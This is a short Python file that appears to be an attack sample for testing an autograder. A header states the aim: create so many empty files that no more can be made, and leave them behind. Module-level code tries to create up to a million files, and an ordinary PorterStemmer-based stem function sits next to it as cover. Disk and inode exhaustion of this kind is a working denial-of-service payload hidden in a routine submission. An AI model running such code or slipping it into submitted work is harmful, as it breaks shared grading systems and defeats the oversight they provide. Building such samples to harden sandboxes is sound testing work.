# ---
# attack: So many empty files are made that no more can be, and they are left behind.
# ---

# %% grade_id="stem"
try:
    for number in range(1_000_000):
        open(f"{number}", "w").close()
except OSError as error:
    print(error.strerror, number)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
